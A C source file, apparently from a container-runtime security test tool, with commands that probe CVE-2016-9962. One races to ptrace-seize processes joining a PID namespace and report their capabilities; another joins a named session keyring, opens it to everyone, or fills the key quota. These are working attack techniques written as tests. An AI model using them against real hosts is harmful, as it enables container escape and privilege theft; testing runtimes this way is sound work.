/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a partition with CAP_SYS_PTRACE can do to a process that joins it, in the moment before that is the
 * payload (CVE-2016-9962): become its tracer and have its capabilities; take its descriptors; speak to the
 * runtime in its place.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "rft.h"

/* The pid namespace's next process has the next number; a few are tried at once, since we cannot know how
 * many were born. */
#define AHEAD 8

static unsigned long long hex_of(const char *text, const char *key)
{
	const char *p = strstr(text, key);

	return p ? strtoull(p + strlen(key), NULL, 16) : 0;
}

static ssize_t read_proc(pid_t pid, const char *file, char *buf, size_t size)
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	buf[n < 0 ? 0 : n] = 0;
	return n;
}

static pid_t newest(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	pid_t most = getpid();

	while (d && (e = readdir(d)))
		if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && number(e->d_name) > most)
			most = (pid_t)number(e->d_name);
	if (d)
		closedir(d);
	return most;
}

static void let_go(pid_t pid)
{
	int status;

	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
		ptrace(PTRACE_DETACH, pid, 0, WIFSTOPPED(status) && status >> 16 == 0 ? WSTOPSIG(status) : 0);
}

/*
 * rft trace-joins SECONDS: attaches to every process that appears, as early as it can, and prints at the end
 * "caught=N caps=HEX": how many it got hold of, and all capabilities that any of them had that we do not
 * have.
 */
int cmd_trace_joins(int argc, char **argv)
{
	time_t end = time(NULL) + (time_t)number(argc > 1 ? argv[1] : "5");
	unsigned long long own, caps = 0, caught = 0, early = 0;
	char text[4096];
	pid_t last;

	read_proc(getpid(), "status", text, sizeof text);
	own = hex_of(text, "\nCapPrm:\t");
	last = newest();
	printf("ready\n");
	while (time(NULL) < end)
		for (pid_t pid = last + 1; pid <= last + AHEAD; pid++) {
			if (ptrace(PTRACE_SEIZE, pid, 0, 0))
				continue;
			last = pid;
			caught++;
			if (read_proc(pid, "status", text, sizeof text) > 0) {
				caps |= hex_of(text, "\nCapPrm:\t") & ~own;
				early += strstr(text, "\nSeccomp:\t0") != NULL;
			}
			let_go(pid);
			break;
		}
	printf("caught=%llu early=%llu caps=%llx\n", caught, early, caps);
	return 0;
}

/*
 * rft keyring NAME [SECONDS]: joins the session keyring of that name, opens it to all, prints its number and
 * stays. "fill" is no name but asks for as many keys as the user may have.
 */
int cmd_keyring(int argc, char **argv)
{
	const char *name = argc > 1 ? argv[1] : "x";
	bool command = argc > 2 && (*argv[2] < '0' || *argv[2] > '9');
	unsigned int seconds = argc > 2 && !command ? (unsigned int)number(argv[2]) : 60;
	long id;

	if (!strcmp(name, "fill")) {
		char text[32];
		int n = 0;

		do
			snprintf(text, sizeof text, "filler-%d", n++);
		while (syscall(SYS_add_key, "user", text, "x", 1, KEY_SPEC_PROCESS_KEYRING) >= 0);
		printf("full=%d %s\n", n, strerror(errno));
		return errno == EDQUOT ? (int)sleep(seconds) : 1;
	}
	id = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name);
	if (id < 0)
		die("keyctl");
	syscall(SYS_keyctl, KEYCTL_SETPERM, id, 0x3f3f3f3f);
	printf("keyring=%ld\n", id);
	if (command) {
		execvp(argv[2], argv + 2);
		die("%s", argv[2]);
	}
	sleep(seconds);
	return 0;
}
